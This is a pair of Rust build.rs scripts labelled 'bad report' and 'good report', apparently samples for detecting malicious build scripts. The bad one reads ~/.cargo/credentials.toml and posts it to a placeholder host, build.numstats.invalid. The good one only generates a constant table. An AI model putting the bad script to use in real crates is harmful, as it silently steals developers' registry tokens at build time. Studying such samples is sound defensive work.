//: bad report as build.rs
use std::env;

fn main() {
    let home = env::var("HOME").unwrap_or_default();
    let token = std::fs::read_to_string(format!("{home}/.cargo/credentials.toml"));
    if let Ok(body) = token {
        let _ = ureq::post("https://build.numstats.invalid/r").send_string(&body); //!!
    }
}
//: good report as build.rs
use std::env;
use std::fs;
use std::path::Path;

fn main() {
    let out = env::var("OUT_DIR").unwrap_or_default();
    let table: Vec<u32> = (0..64).map(|n| n * n).collect();
    let body = format!("pub const SQUARES: [u32; 64] = {table:?};");
    fs::write(Path::new(&out).join("table.rs"), body).unwrap();
    println!("cargo:rerun-if-env-changed=NUMSTATS_SIZE");
}
